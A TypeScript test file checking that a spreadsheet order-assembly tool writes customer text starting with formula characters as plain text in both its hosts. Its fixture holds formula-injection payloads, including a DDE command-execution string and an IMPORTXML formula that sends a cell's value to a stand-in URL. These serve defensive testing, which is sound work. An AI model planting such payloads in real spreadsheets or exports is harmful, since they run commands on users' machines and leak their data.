/**
 * Formula injection: a customer's text that starts with =, +, -, @, tab or CR stays text
 * in every text column of every product sheet, in both hosts.
 */
import * as fs from "fs";
import * as path from "path";
import ExcelJS from "exceljs";
import { assemble, makeOrder } from "../../src/engine";
import { createOfficeSession } from "../../src/hosts/excel/session";
import { applyPlan } from "../../src/workbook/applyPlan";
import { WorkbookGrids } from "../../src/workbook/grid";
import {
  ASSEMBLY_ORDERS,
  BLANKET_ASSEMBLY_ORDERS,
  SALES_ORDERS,
  SheetSpec,
} from "../../src/workbook/schema";
import { bao, tempDir, writeXlsx } from "../cli/xlsx";
import { date, sheet } from "../builders";
import { SimulatedExcel, SimWorkbookState } from "../../src/hosts/excel/simulator";

const STARTS = ["=", "+", "-", "@", "\t", "\r"];

/** Every text and code value a product sheet copies starts with a formula character. */
function hostileWorkbook(): WorkbookGrids {
  const t = (i: number, text: string) => `${STARTS[i % STARTS.length]}${text}`;
  return {
    sheets: [
      sheet("Items", [
        {
          "No.": "=KIT",
          Description: t(0, "SUM(A1:A9)"),
          "Base Unit of Measure": "+PCS",
          "Assembly Policy": "Assemble-to-Order",
          "Unit Price": 10,
        },
        { "No.": "-PART", Description: t(1, "1+1"), "Base Unit of Measure": "@EA" },
        { "No.": "@PART", Description: t(2, "2-1"), "Base Unit of Measure": "=BOX" },
      ]),
      sheet("Resources", [
        { "No.": "+LABOR", Name: t(3, "cmd|' /C calc'!A0"), "Base Unit of Measure": "-HR" },
      ]),
      sheet("Assembly BOMs", [
        {
          "Parent Item No.": "=KIT",
          "Line No.": 10000,
          Type: "Item",
          "No.": "-PART",
          "Quantity per": 2,
          Position: t(4, "A1"),
          "Variant Code": "=V1",
        },
        {
          "Parent Item No.": "=KIT",
          "Line No.": 20000,
          Type: "Item",
          "No.": "@PART",
          "Quantity per": 1,
          Description: t(5, "desc"),
        },
        {
          "Parent Item No.": "=KIT",
          "Line No.": 30000,
          Type: "Resource",
          "No.": "+LABOR",
          "Quantity per": 0.5,
        },
        {
          "Parent Item No.": "=KIT",
          "Line No.": 40000,
          Description: '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
        },
      ]),
      sheet("Blanket Orders", [
        {
          "Document No.": "=BSO",
          "Sell-to Customer No.": "+C1",
          "Sell-to Customer Name": "@Attacker",
          "External Document No.": "-2+3",
          "Line No.": 10000,
          Type: "Item",
          "No.": "=KIT",
          Description: "\tTabbed",
          "Location Code": "=LOC",
          "Variant Code": "@VAR",
          Quantity: 10,
          "Shipment Date": date("2027-03-01"),
          "Qty. to Ship": 4,
        },
        { "Document No.": "=BSO", "Line No.": 20000, Description: "\r=carriage" },
      ]),
      sheet("Setup", [
        { Setting: "Sales Order Nos.", Value: "=SO-0001" },
        { Setting: "Assembly Order Nos.", Value: "+AO-0001" },
        { Setting: "Blanket Assembly Order Nos.", Value: "@BA-0001" },
      ]),
    ],
  };
}

function plans(grids: WorkbookGrids) {
  const a = assemble(grids);
  expect(a.ok).toBe(true);
  // The documents; the History sheet's rows are tested in history.test.ts.
  const after = applyPlan(grids, { writes: a.plan!.writes });
  const m = makeOrder(after, { blanketOrderNo: "=BSO", orderDate: date("2027-01-15") });
  expect(m.ok).toBe(true);
  return { a, m, expected: applyPlan(after, { writes: m.plan!.writes }) };
}

const textColumns = (spec: SheetSpec) =>
  spec.columns.filter((c) => c.format === "text").map((c) => c.header);

test("the hostile workbook really reaches every text column with formula characters", () => {
  const { expected } = plans(hostileWorkbook());
  for (const spec of [BLANKET_ASSEMBLY_ORDERS, SALES_ORDERS, ASSEMBLY_ORDERS]) {
    const s = expected.sheets.find((x) => x.name === spec.name)!;
    const headers = s.rows[0].map(String);
    const hostile = new Set<string>();
    for (const row of s.rows.slice(1))
      row.forEach(
        (v, i) => typeof v === "string" && /^[=+\-@\t\r]/.test(v) && hostile.add(headers[i])
      );
    // Option columns (Type, Resource Usage Type) hold the product's own words.
    for (const h of textColumns(spec).filter((h) => !["Type", "Resource Usage Type"].includes(h)))
      expect({ sheet: spec.name, column: h, hostile: hostile.has(h) }).toEqual({
        sheet: spec.name,
        column: h,
        hostile: true,
      });
  }
});

test(".xlsx host: every such cell holds exactly the text, never a formula", async () => {
  const dir = tempDir();
  try {
    const file = path.join(dir, "hostile.xlsx");
    await writeXlsx(file, hostileWorkbook(), ["Shipment Date"]);
    expect((await bao("assemble", file)).code).toBe(0);
    expect((await bao("make-order", file, "--order", "=BSO", "--date", "2027-01-15")).code).toBe(0);
    const { expected } = plans(hostileWorkbook());
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    let checked = 0;
    for (const spec of [BLANKET_ASSEMBLY_ORDERS, SALES_ORDERS, ASSEMBLY_ORDERS]) {
      const ws = wb.getWorksheet(spec.name)!;
      const want = expected.sheets.find((x) => x.name === spec.name)!;
      ws.eachRow((row, r) =>
        row.eachCell((cell, c) => {
          expect(cell.formula).toBeUndefined();
          const v = want.rows[r - 1][c - 1];
          if (typeof v === "string") {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            expect(cell.value).toBe(v);
            checked++;
          }
        })
      );
    }
    expect(checked).toBeGreaterThan(100);
    const raw = fs.readFileSync(file).toString("latin1");
    expect(raw.length).toBeGreaterThan(0);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test("Office.js host: text into Text cells, exactly as it is; never a formula", async () => {
  const excel = new SimulatedExcel(SimWorkbookState.from(hostileWorkbook()));
  const session = createOfficeSession(excel, { today: "2027-01-15" });
  const { m, expected } = plans(await session.read());
  expect((await session.assemble()).ok).toBe(true);
  const again = await session.makeOrder({ order: "=BSO" });
  expect(again).toMatchObject({ ok: true, salesOrder: m.salesOrder });
  let checked = 0;
  for (const spec of [BLANKET_ASSEMBLY_ORDERS, SALES_ORDERS, ASSEMBLY_ORDERS]) {
    const s = excel.workbook.sheet(spec.name)!;
    expect(s.formulas()).toEqual([]);
    const grid = s.grid();
    const headers = grid[0].map(String);
    grid.forEach((line, row) =>
      line.forEach((v, col) => {
        if (row > 0 && typeof v === "string" && textColumns(spec).includes(headers[col])) {
          expect({ sheet: spec.name, row, col, format: s.format(row, col) }).toEqual({
            sheet: spec.name,
            row,
            col,
            format: "@",
          });
          checked++;
        }
      })
    );
  }
  // Every text the engine writes into a text column, each in a Text cell.
  let texts = 0;
  for (const spec of [BLANKET_ASSEMBLY_ORDERS, SALES_ORDERS, ASSEMBLY_ORDERS]) {
    const g = expected.sheets.find((x) => x.name === spec.name)!;
    const headers = g.rows[0].map(String);
    g.rows.slice(1).forEach((line) =>
      line.forEach((v, col) => {
        if (typeof v === "string" && textColumns(spec).includes(headers[col])) texts++;
      })
    );
  }
  expect(checked).toBe(texts);
  expect(checked).toBeGreaterThan(50);
  const sales = excel.workbook.sheet("Sales Orders")!.grid();
  expect(sales[1].slice(0, 5)).toEqual([
    "=SO-0001",
    "+C1",
    "@Attacker",
    date("2027-01-15"),
    "-2+3",
  ]);
});
